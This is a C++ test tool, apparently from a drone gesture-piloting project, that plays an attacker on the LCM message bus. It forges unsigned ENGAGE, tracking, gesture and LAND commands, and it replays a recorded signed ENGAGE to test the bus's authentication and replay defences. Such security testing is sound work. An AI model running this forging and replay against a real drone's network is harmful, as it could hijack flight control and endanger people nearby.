// An attacker on the drone's network, for the two-hosts tests: well-formed messages with the right
// fingerprints and plausible times, but no bus key (plain LCM, as anyone with lcm-gen could write).
//   bus_attacker URL forge    ENGAGE as "gpilot-ctl", TRACKER_INIT on a background patch, GESTURE_CMD at
//                             200 Hz for 1 s with forged USER_TRACKs, then LAND
//   bus_attacker URL replay S waits up to S seconds for a signed ENGAGE and then a DISENGAGE on
//                             FLIGHT_CONTROL, and sends the recorded ENGAGE again, byte for byte
// Prints what it sent; exits 0 when it sent all of it.
#include <chrono>
#include <cstdio>
#include <string>
#include <thread>
#include <vector>

#include <lcm/lcm-cpp.hpp>

#include "gpilot/flight_control_t.hpp"
#include "gpilot/gesture_cmd_t.hpp"
#include "gpilot/tracker_init_t.hpp"
#include "gpilot/user_track_t.hpp"

namespace {

int64_t now_us() {
  return std::chrono::duration_cast<std::chrono::microseconds>(std::chrono::system_clock::now().time_since_epoch()).count();
}

void sleep_s(double s) { std::this_thread::sleep_for(std::chrono::microseconds(static_cast<int64_t>(s * 1e6))); }

gpilot::flight_control_t control(int8_t command) {
  gpilot::flight_control_t m{};
  m.utime = now_us();
  m.command = command;
  m.source = "gpilot-ctl";
  return m;
}

int forge(lcm::LCM& lc) {
  int sent = 0;
  auto engage = control(gpilot::flight_control_t::COMMAND_ENGAGE);
  lc.publish("FLIGHT_CONTROL", &engage), ++sent;
  gpilot::tracker_init_t init{};
  init.utime = now_us();
  init.seq = 1;
  init.command = gpilot::tracker_init_t::COMMAND_SET_BOX;
  const float patch[4] = {10, 10, 80, 160};
  for (int k = 0; k < 4; ++k) init.box[k] = patch[k];
  init.source = "gpilot-view";
  lc.publish("TRACKER_INIT", &init), ++sent;
  for (int i = 0; i < 200; ++i) {
    const int64_t t = now_us();
    gpilot::user_track_t track{};
    track.utime = t;
    track.seq = 100000 + i;
    track.status = gpilot::user_track_t::STATUS_TRACKING;
    const float box[4] = {280, 120, 80, 200};
    for (int k = 0; k < 4; ++k) track.box[k] = box[k];
    track.confidence = 20;
    track.init_source = gpilot::user_track_t::INIT_FACE;
    track.track_id = 1;
    track.image_width = 640;
    track.image_height = 480;
    lc.publish("USER_TRACK", &track), ++sent;
    gpilot::gesture_cmd_t cmd{};
    cmd.utime = t;
    cmd.seq = 100000 + i;
    cmd.track_id = 1;
    cmd.mode = gpilot::gesture_cmd_t::MODE_FINE;
    cmd.direction[0] = 1.0f;
    cmd.user_box_width = 80;
    cmd.n_out = 60;
    cmd.buffer_fill = 60;
    lc.publish("GESTURE_CMD", &cmd), ++sent;
    sleep_s(0.005);
  }
  auto land = control(gpilot::flight_control_t::COMMAND_LAND);
  lc.publish("FLIGHT_CONTROL", &land), ++sent;
  std::printf("bus_attacker: forged %d messages\n", sent);
  return 0;
}

struct Recorder {
  std::vector<uint8_t> engage;
  bool disengaged = false;
  void on(const lcm::ReceiveBuffer* rbuf, const std::string&) {
    gpilot::flight_control_t m{};
    if (m.decode(rbuf->data, 0, static_cast<int>(rbuf->data_size)) < 0) return;  // stops at the message's end
    const auto* p = static_cast<const uint8_t*>(rbuf->data);
    if (m.command == gpilot::flight_control_t::COMMAND_ENGAGE && engage.empty()) engage.assign(p, p + rbuf->data_size);
    if (m.command == gpilot::flight_control_t::COMMAND_DISENGAGE && !engage.empty()) disengaged = true;
  }
};

int replay(lcm::LCM& lc, double wait_s) {
  Recorder r;
  lc.subscribe("FLIGHT_CONTROL", &Recorder::on, &r);
  const auto end = std::chrono::steady_clock::now() + std::chrono::microseconds(static_cast<int64_t>(wait_s * 1e6));
  while (!r.disengaged && std::chrono::steady_clock::now() < end) lc.handleTimeout(50);
  if (!r.disengaged) {
    std::fprintf(stderr, "bus_attacker: heard no ENGAGE then DISENGAGE within %g s\n", wait_s);
    return 1;
  }
  sleep_s(0.2);
  for (int i = 0; i < 3; ++i) lc.publish("FLIGHT_CONTROL", r.engage.data(), static_cast<unsigned>(r.engage.size()));
  std::printf("bus_attacker: replayed a recorded ENGAGE of %zu bytes 3 times\n", r.engage.size());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: bus_attacker URL forge | URL replay SECONDS\n");
    return 2;
  }
  lcm::LCM lc(argv[1]);
  if (!lc.good()) return 3;
  const std::string what = argv[2];
  if (what == "forge") return forge(lc);
  if (what == "replay" && argc > 3) return replay(lc, std::stod(argv[3]));
  return 2;
}
